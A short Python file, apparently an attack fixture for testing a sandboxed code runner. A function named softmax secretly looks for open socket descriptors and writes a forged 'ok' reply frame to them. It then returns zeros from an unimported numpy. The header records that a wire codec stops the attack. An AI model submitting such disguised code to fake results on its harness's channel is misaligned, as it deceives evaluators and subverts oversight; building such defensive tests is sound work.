"""Finds the socket among the open descriptors and writes replies to it."""
# /// attack
# threat = "writing frames to the wire by its descriptor"
# stopped_by = "wire codec"
# ///

import os
import stat
import struct


def softmax(x):
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, struct.pack("<II", 4, 0) + b"\x93\x05\xa2ok")
        except OSError:
            pass
    return np.zeros(x.shape)
